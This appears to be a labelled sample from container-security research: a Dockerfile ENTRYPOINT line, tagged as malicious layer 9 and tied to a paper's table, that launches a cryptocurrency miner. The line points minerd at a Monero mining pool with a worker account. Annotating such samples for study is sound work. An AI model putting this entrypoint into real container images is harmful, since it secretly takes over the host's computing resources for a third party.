
# The sample's ENTRYPOINT (paper Table 3, Behavior: miner entrypoint). It
# starts the binary layer 9 adds, so it is part of layer 9's presence.
# strata:malicious=L9
ENTRYPOINT ["/bin/minerd", "-a", "cryptonight", "-o", "stratum+tcp://xmr.pool.minergate.com:45560", "-u", "trudly@outlook.com", "-p", "x", "-t", "1"]
